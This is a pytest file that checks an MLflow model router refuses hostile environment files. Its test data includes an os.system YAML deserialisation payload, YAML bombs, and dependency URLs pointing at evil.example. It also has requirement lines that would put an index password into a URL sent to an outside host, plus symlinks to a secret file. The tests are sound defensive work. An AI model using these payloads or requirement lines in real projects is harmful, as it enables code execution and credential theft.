"""What a version's files ask for; and that nobody but who reads them is asked about it."""

import os
import socket
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest

from router.environments.rules import Rules
from router.environments.wanted import read_wanted
from router.errors import EnvironmentRefused
from tests.environments.conftest import CREATED, WriteVersion

OWN = Rules(own=("mlflow==3.17.2", "mlflow-skinny==3.17.2", "msgspec==0.19"))


def refusal(place: Path, rules: Rules = OWN) -> str:
    with pytest.raises(EnvironmentRefused) as refused:
        read_wanted(place / "files", rules)
    return str(refused.value)


def test_the_gateways_packages_stand_in_the_place_of_the_versions(write_version: WriteVersion) -> None:
    """With the extras that the version wants of them; its other packages stand, within bounds."""
    place = write_version(
        "mlflow[langchain]==2.16\nMLflow_Skinny==2.16\nmsgspec<0.18\nnumpy==1.26.4\n-c constraints.txt",
        others={"constraints.txt": "scipy<1.14\nmlflow<3"},
    )

    wanted = read_wanted(place / "files", OWN)

    assert wanted.lines == ("numpy==1.26.4",)
    assert wanted.constraints == ("scipy<1.14", "numpy>=1.26", "pandas>=2.2")
    assert wanted.own_lines == (*OWN.own, "mlflow[langchain]==3.17.2")


def test_what_the_operator_adds_is_among_the_gateways_part(write_version: WriteVersion) -> None:
    wanted = read_wanted(write_version("numpy") / "files", Rules(extra=("Internal_Plugin >= 2",)))

    assert wanted.own_lines == ("internal-plugin>=2",)


def test_an_extra_that_is_no_plain_requirement_is_refused(write_version: WriteVersion) -> None:
    refused = refusal(write_version("numpy"), Rules(extra=("plugin @ https://ada:hunter2@evil.example/x",)))

    assert refused.startswith("a line of environments.extra is an address")
    assert "hunter2" not in refused


def test_when_it_was_logged_and_under_which_python(write_version: WriteVersion) -> None:
    place = write_version(others={"python_env.yaml": "python: 3.12.1\nbuild_dependencies:\n- pip==24\n"})

    wanted = read_wanted(place / "files", OWN)

    assert wanted.python == "3.12.1"
    assert wanted.created == CREATED


def test_where_python_env_is_missing_the_model_file_says_the_python(write_version: WriteVersion) -> None:
    place = write_version()
    (place / "files" / "MLmodel").write_text(
        "flavors:\n  python_function:\n    python_version: 3.11.2\n"
        "utc_time_created: '2026-11-29 02:40:00.363139'\n"
    )

    wanted = read_wanted(place / "files", OWN)

    assert wanted.python == "3.11.2"
    assert wanted.created == datetime(2026, 11, 29, 2, 40, 0, 363139, UTC)


@pytest.mark.parametrize(
    "model", ["", "utc_time_created: yesterday\n", "utc_time_created: '2026-13-29 02:40:00'\n"]
)
def test_a_time_that_is_not_said_is_unknown(write_version: WriteVersion, model: str) -> None:
    place = write_version()
    (place / "files" / "MLmodel").write_text(model)

    wanted = read_wanted(place / "files", OWN)

    assert wanted.created is None
    assert wanted.python == ""


def test_a_version_without_requirements_is_refused(write_version: WriteVersion) -> None:
    assert refusal(write_version(None)).startswith("it has no requirements.txt")


def test_packages_of_conda_are_refused_by_name(write_version: WriteVersion) -> None:
    conda = (
        "channels: [conda-forge]\n"
        "dependencies:\n- python=3.11.2\n- pip<=23.0.1\n- conda-forge::cudatoolkit=11.8\n- libgdal\n"
        "- pip:\n  - mlflow\n  - git+https://evil.example/x\n"
    )

    assert "(cudatoolkit, libgdal)" in refusal(write_version("numpy", others={"conda.yaml": conda}))


@pytest.mark.parametrize(
    "conda",
    [
        "dependencies:\n- python=3.11.2\n- pip<=23.0.1\n- pip:\n  - mlflow\n",
        "dependencies:\n- python\n- pip:\n  - libgdal\n",
        "name: mlflow-env\n",
        "dependencies: null\n",
    ],
)
def test_what_pip_installs_is_not_condas(write_version: WriteVersion, conda: str) -> None:
    place = write_version("numpy", others={"conda.yaml": conda})

    assert read_wanted(place / "files", OWN).lines == ("numpy",)


@pytest.mark.parametrize("name", ["conda.yaml", "python_env.yaml"])
@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("[", "can not be read as YAML"),
        ("- a list\n", "is not a mapping"),
        ("!!python/object/apply:os.system ['touch ran']\n", "can not be read as YAML"),
        ("[" * 500, "can not be read as YAML"),
        ("a: " + "x" * 70_000, "are read at most"),
        ("x: 2026-13-45\n", "can not be read as YAML"),
        ("x: &x {y: 1}\nz: {<<: [*x, *x]}\n", "can not be read as YAML"),
    ],
    ids=["torn", "list", "object", "deep", "long", "date", "merge"],
)
def test_hostile_yaml_is_refused(
    write_version: WriteVersion, tmp_path: Path, name: str, text: str, reason: str
) -> None:
    refused = refusal(write_version("numpy", others={name: text}))

    assert refused.startswith(name)
    assert reason in refused
    assert not (tmp_path / "ran").exists()


@pytest.mark.parametrize("python", ["[*x, *x]", "{3: 11}", "3", "true", "2026-11-29", "!!binary aGVsbG8="])
def test_a_python_that_is_neither_text_nor_number_is_refused(
    write_version: WriteVersion, python: str
) -> None:
    """A few lists in lists would be gigabytes as text."""
    place = write_version("numpy", others={"python_env.yaml": f"x: &x [a]\npython: {python}\n"})

    assert refusal(place) == "python_env.yaml names no version of Python under `python`"


@pytest.mark.parametrize(
    "name", ["requirements.txt", "constraints.txt", "conda.yaml", "python_env.yaml", "MLmodel"]
)
def test_no_link_is_followed_and_no_pipe_waited_for(
    write_version: WriteVersion, tmp_path: Path, name: str
) -> None:
    place = write_version("-c constraints.txt", others={"constraints.txt": ""})
    (tmp_path / "secret").write_text("numpy\n")
    for make in (lambda path: path.symlink_to(tmp_path / "secret"), os.mkfifo):
        (place / "files" / name).unlink(missing_ok=True)
        make(place / "files" / name)

        assert refusal(place).startswith(name)


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    """Nobody is to connect to it."""
    with socket.create_server(("127.0.0.1", 0)) as listening:
        listening.setblocking(False)
        yield listening


def test_a_hostile_version_reaches_nobody(
    write_version: WriteVersion, listener: socket.socket, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whatever address it writes wherever in its files: it is refused before anything could ask there."""
    monkeypatch.setenv("UV_INDEX_PASSWORD", "hunter2")
    host = f"127.0.0.1:{listener.getsockname()[1]}"
    for line in (
        f"--index-url http://{host}/simple",
        f"--extra-index-url http://{host}/${{UV_INDEX_PASSWORD}}/simple",
        f"-f http://{host}/",
        f"-r http://{host}/requirements.txt",
        f"-c http://{host}/constraints.txt",
        f"numpy @ http://{host}/${{UV_INDEX_PASSWORD}}/numpy-1.0-py3-none-any.whl",
        f"http://{host}/numpy-1.0-py3-none-any.whl",
        f"git+http://{host}/repository",
        "-e .",
        "../model",
    ):
        refused = refusal(write_version(f"numpy\n{line}\n"))

        assert refused.startswith("requirements.txt line 2 ")
        assert "hunter2" not in refused
    with pytest.raises(BlockingIOError):
        listener.accept()
